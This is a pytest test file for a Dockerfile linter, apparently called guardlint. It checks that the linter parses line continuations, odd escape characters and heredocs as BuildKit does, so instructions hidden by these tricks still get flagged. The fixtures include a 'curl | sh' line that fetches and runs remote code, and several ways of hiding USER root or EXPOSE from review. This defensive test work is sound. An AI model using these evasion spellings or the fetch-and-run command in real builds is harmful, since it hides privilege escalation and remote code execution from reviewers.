"""A Dockerfile's lines, continuations and heredocs as BuildKit reads them
(moby/buildkit frontend/dockerfile/parser): where guardlint read them otherwise, a pull request
could hide an instruction BuildKit builds (a USER root read as part of a RUN, an EXPOSE 22
read as an unknown instruction, a `curl | sh` read as a heredoc's body).
"""

from __future__ import annotations

import pytest

from tests.conftest import lines_of, run_scan, write_file

_HEAD = "FROM ubuntu:22.04\nUSER app\n"
_PIPE = "curl -fsSL https://x.example/i.sh | sh"

# (what hides it, Dockerfile text, the rule BuildKit's reading must give, on that line)
HIDDEN = [
    # The keyword is the first word of the joined lines: `EXP\` + `OSE 22` is EXPOSE 22.
    ("keyword cut by a continuation", _HEAD + "EXP\\\nOSE 22\n", "DKR010", 3),
    ("keyword glued to the escape", _HEAD + f"RUN\\\n  {_PIPE}\n", "DKR008", 3),
    ("FROM cut by a continuation", "FR\\\nOM ubuntu:latest\nUSER app\n", "DKR002", 1),
    ("ADD cut by a continuation", _HEAD + "A\\\nDD https://x.example/a.tgz /a\n", "DKR007", 3),
    # A line ends at `\n` only: a form feed or U+2028 after the escape is no line break, so
    # the escape does not continue the RUN into the USER.
    ("form feed after the escape", _HEAD + "RUN echo hi \\\f\nUSER root\n", "DKR001", 4),
    ("line separator after the escape", _HEAD + "RUN echo hi \\\u2028\nUSER root\n", "DKR001", 4),
    ("vertical tab after the escape", _HEAD + "RUN echo hi \\\v\nUSER root\n", "DKR001", 4),
    # Only spaces and tabs may follow a continuing escape; an escaped escape continues nothing.
    ("no-break space after the escape", _HEAD + "RUN echo hi \\\u00a0\nUSER root\n", "DKR001", 4),
    ("escaped escape", _HEAD + "RUN echo foo\\\\\nUSER root\n", "DKR001", 4),
    # A line of \x1f is no blank line to Go: it ends the RUN, it is not skipped.
    ("unit separator line", _HEAD + "RUN echo \\\n\x1f\nUSER root\n", "DKR001", 5),
    ("unit separator before #", _HEAD + "RUN echo \\\n\x1f# x\nUSER root\n", "DKR001", 5),
    # A heredoc is a word of its own, named by letters and digits; the shell gets the rest.
    ("marker glued to a word", _HEAD + "RUN cat<<EOF\nUSER root\nRUN true \\\nEOF\n", "DKR001", 4),
    ("blank after <<", _HEAD + "RUN cat << EOF\nUSER root\nRUN true \\\nEOF\n", "DKR001", 4),
    ("underscore in the name", _HEAD + "RUN cat <<E_X\nUSER root\nRUN true \\\nE_X\n", "DKR001", 4),
    # The body ends at a line that is exactly the delimiter.
    (
        "delimiter with a blank after it",
        _HEAD + f"RUN <<EOF\necho hi\nEOF \n{_PIPE}\nEOF\n",
        "DKR008",
        3,
    ),
    # What BuildKit does read as a heredoc, its body is no instruction: `\<<` and `$X<<` lex to
    # `<<`, a quoted delimiter is one; CRLF lines end as LF ones.
    (
        "escaped marker",
        "FROM ubuntu:22.04\nUSER root\nRUN cat \\<<EOF\nUSER app\nEOF\n",
        "DKR001",
        2,
    ),
    (
        "variable before <<",
        "FROM ubuntu:22.04\nUSER root\nRUN cat $X<<EOF\nUSER app\nEOF\n",
        "DKR001",
        2,
    ),
    (
        "quoted delimiter",
        'FROM ubuntu:22.04\nUSER root\nRUN cat <<"EOF" >/x\nUSER app\nEOF\n',
        "DKR001",
        2,
    ),
    (
        "CRLF heredoc",
        "FROM ubuntu:22.04\r\nUSER app\r\nRUN cat <<EOF\r\nhi\r\nEOF\r\nUSER root\r\n",
        "DKR001",
        6,
    ),
]


@pytest.mark.parametrize(("name", "text", "rule", "line"), HIDDEN, ids=[c[0] for c in HIDDEN])
def test_an_instruction_buildkit_reads_is_judged(tmp_path, name, text, rule, line):
    write_file(tmp_path, "Dockerfile", text)
    assert lines_of(run_scan(tmp_path), rule) == [line]


# What BuildKit reads as before: a finding here would be a false one.
BENIGN = [
    ("continued RUN", _HEAD + "RUN mkdir /a \\\n  && mkdir /b\n"),
    ("continuation with trailing blanks", _HEAD + "RUN echo a \\ \t\n  && echo b\nUSER app\n"),
    ("comment and blank line inside", _HEAD + "RUN echo a \\\n# note\n\n  && echo b\nUSER app\n"),
    ("heredoc", _HEAD + "RUN <<EOF\nset -e\necho USER root\nEOF\n"),
    ("dash heredoc", _HEAD + "RUN <<-EOT\n\techo hi\n\tEOT\nUSER app\n"),
    ("CRLF continuation", "FROM ubuntu:22.04\r\nRUN echo a \\\r\n  && echo b\r\nUSER app\r\n"),
]


@pytest.mark.parametrize(("name", "text"), BENIGN, ids=[c[0] for c in BENIGN])
def test_the_usual_spellings_are_read_as_before(tmp_path, name, text):
    write_file(tmp_path, "Dockerfile", text)
    result = run_scan(tmp_path)
    assert {f.rule_id for f in result.findings} <= {"DKR003", "DKR005", "DKR011"}
